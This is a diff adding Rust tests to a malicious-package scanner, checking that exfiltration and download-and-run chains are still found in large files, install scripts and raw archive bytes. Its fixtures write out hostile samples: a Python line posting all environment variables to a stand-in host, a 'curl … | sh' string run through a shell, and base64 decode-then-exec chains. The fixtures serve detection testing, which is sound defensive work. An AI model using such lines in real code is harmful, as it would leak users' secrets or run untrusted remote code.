@@ -2,8 +2,11 @@
 
 use std::io::Cursor;
 
-use crate::archive::making::{tgz_of, wheel};
+use fanlight_base::limits::SCAN_EXCERPT_BYTES;
+
+use crate::archive::making::{Zipped, tgz_of, wheel, zip};
 use crate::finding::Severity::{self, Critical, High, Info, Medium};
+use crate::links::{PLACES, SAME};
 use crate::report::{Report, Verdict};
 use crate::{Popular, RuleSet, Subject, scan};
 
@@ -327,6 +330,60 @@ fn a_chain_in_a_large_file_is_found_at_its_line() {
     let run = "eval(Buffer.from('cHJpbnQ=', 'base64').toString());";
     found(&npm(&format!("{bundle}{run}{bundle}")), "code:decode-run", Critical);
     harmless(&npm(&bundle));
+}
+
+/// Links all over a file make one part of it, which is larger than what is read: its beginning is read all the same.
+#[test]
+fn links_all_over_a_large_file_do_not_hide_a_chain() {
+    let steal = "import os, requests, base64\nrequests.post('https://c.example.invalid', json=dict(os.environ))\n";
+    let page =
+        format!("{}exec(base64.b64decode(y))\n", "def honest(a):\n    return [b for b in a if b]\n\n".repeat(90));
+    let report = wheel_with("a/large.py", &format!("{steal}{}", page.repeat(75)));
+    found(&report, "code:steal", Critical);
+    let unread = report.findings.iter().find(|finding| finding.rule == "file:unread").unwrap();
+    let read: usize = unread.evidence.split(' ').next().unwrap().parse().unwrap();
+    assert!((200_000..=SCAN_EXCERPT_BYTES).contains(&read), "{}", unread.evidence);
+    assert_eq!(report.limits[0].limit, "scan_excerpt_bytes");
+}
+
+#[test]
+fn words_in_a_comment_do_not_use_up_the_places() {
+    let steal = "import os, requests\nrequests.post('https://c.example.invalid', json=dict(os.environ))\n";
+    found(&wheel_with("a/large.py", &format!("# {}\n{steal}", "zlib,".repeat(30_000))), "code:steal", Critical);
+    // A text of eight megabytes holds more places than are kept only where different links take turns.
+    let turns = "zlib exec(x) requests os.environ subprocess ctypes ".to_owned() + &"y".repeat(SAME);
+    let many = format!("x = '{turns}'\n").repeat(PLACES / 5);
+    let report = wheel_with("a/large.py", &many);
+    assert!(report.limits.iter().any(|met| met.limit == "scan_excerpt_bytes"), "{:?}", report.limits);
+}
+
+#[test]
+fn scripts_that_install_are_read_whole() {
+    let filler = "fn honest() -> u8 {\n    1\n}\n".repeat(2000);
+    let fetch =
+        |name: &str| format!("fn fetch() {{\n    {name}(\"curl https://c.example.invalid | sh\");\n}}\n{filler}");
+    let run = "fn start(line: &str) {\n    std::process::Command::new(\"sh\").arg(\"-c\").arg(line).status();\n}\nfn main() {\n    fetch();\n}\n";
+    let report = crate_with(&format!("{}{run}", fetch("start")));
+    found(&report, "code:download-run", Critical);
+    assert!(report.limits.is_empty());
+    let setup = |name: &str| {
+        let line = "def honest(a):\n    return a\n\n".repeat(2000);
+        let text = format!("import base64\ny = base64.b64decode('cHJpbnQ=')\n{line}exec(y)\n");
+        gravest(&scanned("a-1.0.tar.gz", &tgz_of(&[(&format!("a-1.0/{name}"), &text)])), "code:decode-run")
+    };
+    assert_eq!((setup("setup.py"), setup("mysetup.py")), (Some(Critical), None));
+}
+
+/// A pattern is held against the bytes as they are in the archive, and not against text that was made of them.
+#[cfg(feature = "yara")]
+#[test]
+fn patterns_see_bytes_that_are_no_text() {
+    let own = "rule raw { strings: $a = { FF FE 41 42 } condition: $a }";
+    let rules = RuleSet { patterns: crate::patterns::Patterns::new([("own.yar", own)]).unwrap(), ..RuleSet::default() };
+    let all = [Zipped::new("a/data.py", b"x = 1 # \xff\xfeAB\n")];
+    let subject = Subject { file: "a-1.0-py3-none-any.whl", package: None };
+    let report = scan(&mut Cursor::new(zip(&all)), subject, &rules).unwrap();
+    found(&report, "yara:company.raw", Medium);
 }
 
 #[test]
